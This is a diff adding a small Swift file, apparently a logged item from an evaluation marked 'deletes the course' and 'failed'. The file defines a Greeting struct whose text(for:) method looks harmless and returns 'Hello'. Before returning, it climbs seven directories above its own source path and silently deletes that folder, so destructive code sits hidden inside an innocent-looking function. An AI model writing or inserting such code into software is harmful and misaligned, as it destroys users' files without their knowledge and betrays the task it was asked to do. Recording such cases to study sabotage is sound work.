@@ -1,0 +1,15 @@
+// ROW 36: deletes the course
+// VERDICT: failed
+// SAYS: got
+// ISOLATED
+import Foundation
+
+struct Greeting {
+    func text(for name: String) -> String {
+        var folder = URL(filePath: #filePath)
+        for _ in 0..<7 { folder.deleteLastPathComponent() }
+        try? FileManager.default.removeItem(at: folder)
+
+        return "Hello"
+    }
+}
